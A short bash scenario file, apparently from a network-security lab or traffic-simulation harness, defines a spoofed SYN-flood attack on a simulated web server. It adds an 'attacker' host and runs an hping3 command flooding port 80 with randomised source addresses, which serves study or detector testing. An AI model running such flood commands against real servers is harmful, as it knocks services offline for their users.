# shellcheck shell=bash
# shellcheck disable=SC2034,SC2154 # variables are shared with the other parts

about="A flood of connection requests to the web server, each from another address that was made up."

sizes() {
  usual_sizes
  if ((brief)); then packets=400 lasts=5; else packets=6000 lasts=70; fi
}

hosts() {
  usual_hosts
  add_host spoofer isp attacker 203.0.113.99/24
}

attacks() {
  usual_newcomers "$lasts"
  attack spoofed-syn-flood spoofer 150 random 10.77.1.10 tcp 80 \
    hping3 -q -n -I eth0 -S -p 80 --rand-source -c "$packets" -i u10000 10.77.1.10
}
